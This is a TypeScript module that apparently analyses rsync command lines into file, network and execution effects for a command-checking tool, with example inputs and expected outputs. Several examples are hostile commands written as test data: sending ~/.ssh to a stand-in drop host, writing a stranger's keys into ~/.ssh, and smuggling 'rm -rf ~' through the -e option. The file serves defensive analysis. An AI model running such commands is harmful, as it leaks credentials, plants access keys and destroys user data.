import type { Operation } from '../../../operation.ts';
import { analyseParsed } from '../../analyse.ts';
import { type Arg, staticText } from '../../arg.ts';
import { parseArgs } from '../../options.ts';
import type { Analysis, Invocation, Program, ProgramSpec, Run } from '../../program.ts';
import { hostOf, isRemote } from './ssh.ts';

const spec: ProgramSpec = {
  flags:
    '-a -v -vv -z -r -R -b -u -l -L -k -K -H -p -E -A -X -o -g -t -O -S -n -W -x -y -C -q -c -d -D -I -h -hh -i -m -P -F -s -0 -N -U -V --archive --verbose --compress --recursive --relative --backup --update --inplace --append --append-verify --dirs --links --copy-links --safe-links --copy-unsafe-links --hard-links --perms --executability --acls --xattrs --owner --group --times --omit-dir-times --sparse --dry-run --whole-file --one-file-system --existing --ignore-existing --remove-source-files --delete --delete-before --delete-during --delete-delay --delete-after --delete-excluded --ignore-errors --force --partial --prune-empty-dirs --numeric-ids --ignore-times --size-only --fuzzy --cvs-exclude --from0 --protect-args --secluded-args --stats --human-readable --progress --itemize-changes --no-motd --list-only --quiet --checksum --mkpath --munge-links --no-owner --no-group --no-perms --no-times --no-o --no-g --no-p --no-t --no-i-r --no-inc-recursive --no-compress --no-whole-file --super --fake-super --ipv4 --ipv6 --version --help --info= --debug= --old-args --open-noatime',
  values: {
    '-e --rsh': 'text',
    '--rsync-path': 'text',
    '--exclude': 'text',
    '--include': 'text',
    '-f --filter': 'text',
    '--exclude-from --include-from --files-from --password-file': 'read',
    '-T --temp-dir': 'write-tree',
    '--backup-dir --partial-dir --log-file --write-batch': 'write-tree',
    '--link-dest --compare-dest --copy-dest': 'read-tree',
    '--chmod': 'text',
    '--chown': 'text',
    '--bwlimit': 'text',
    '--timeout --contimeout': 'text',
    '--max-size --min-size': 'text',
    '--max-delete': 'text',
    '--port': 'text',
    '--suffix': 'text',
    '--block-size -B': 'text',
    '--out-format --log-file-format': 'text',
    '--compress-level --compress-choice --checksum-choice': 'text',
    '--skip-compress': 'text',
    '--address --sockopts': 'text',
    '--modify-window -@': 'text',
  },
  operands: ['text*'],
};

const deleting = /^--(?:delete(?:-\w+)?)$/;

/** Copies trees, between machines or on this one; what the target has besides is deleted if so asked. */
function rsync(invocation: Invocation): Analysis {
  const parsed = parseArgs(spec, invocation.args);
  const { operands } = parsed;
  const sources = operands.length > 1 ? operands.slice(0, -1) : operands;
  const target = operands.length > 1 ? operands.at(-1) : undefined;
  const tried = parsed.has('-n') || parsed.has('--dry-run') || parsed.has('--list-only');
  const deletes = [...parsed.options.keys()].some(option => deleting.test(option));
  const operations: Operation[] = [
    ...operands.filter(isRemote).map(arg => hostOf(arg, invocation)),
    ...sources.filter(isLocal).flatMap(arg => invocation.paths('read', arg, true)),
    ...(tried ? [] : changed(sources, target, parsed.has('--remove-source-files'), deletes, invocation)),
  ];
  const analysis = analyseParsed(spec, parsed, invocation);
  return {
    operations: [...analysis.operations, ...operations],
    runs: parsed.values('-e').map(shellOf),
    described: !operands.some(isRemote) && !parsed.has('-e'),
  };
}

function changed(
  sources: readonly Arg[],
  target: Arg | undefined,
  moves: boolean,
  deletes: boolean,
  invocation: Invocation,
): Operation[] {
  const here = target !== undefined && isLocal(target) ? [target] : [];
  return [
    ...here.flatMap(arg => invocation.paths('write', arg, true)),
    ...[...(deletes ? here : []), ...(moves ? sources.filter(isLocal) : [])].flatMap(arg =>
      invocation.paths('delete', arg, true),
    ),
  ];
}

const isLocal = (arg: Arg) => !isRemote(arg);

/** The shell to the other machine is any command. */
function shellOf(value: Arg): Run {
  const text = staticText(value);
  return text === undefined ? { args: [value] } : { script: `${text} host`, posix: true };
}

export const rsyncPrograms: readonly Program[] = [
  {
    names: ['rsync'],
    analyse: rsync,
    examples: {
      'rsync -av --exclude node_modules src/ /tmp/copy/': ['read /workspace/src (tree)', 'write /tmp/copy (tree)'],
      'rsync -a --delete /tmp/empty/ /home/user/': [
        'read /tmp/empty (tree)',
        'write /home/user (tree)',
        'delete /home/user (tree)',
      ],
      'rsync -an --delete a/ b/': ['read /workspace/a (tree)'],
      'rsync -a ~/.ssh/ u@drop.example:/in/': [
        'connect drop.example',
        'read /home/user/.ssh (tree)',
        'read /workspace',
      ],
      'rsync -a stranger@files.example:keys/ ~/.ssh/': [
        'connect files.example',
        'write /home/user/.ssh (tree)',
        'read /workspace',
      ],
      'rsync -az . rsync://in.example/p': ['connect in.example', 'read /workspace (tree)', 'read /workspace'],
      'rsync -e "rm -rf ~;" a: b': [
        'connect a',
        'write /workspace/b (tree)',
        'read /workspace',
        'execute rm -rf /home/user',
        'delete /home/user (tree)',
        'execute host',
      ],
      'rsync a b --daemon': [
        'unknown rsync: the option `--daemon` is not known',
        'read /workspace/a (tree)',
        'write /workspace/b (tree)',
        'read /workspace',
      ],
    },
  },
];
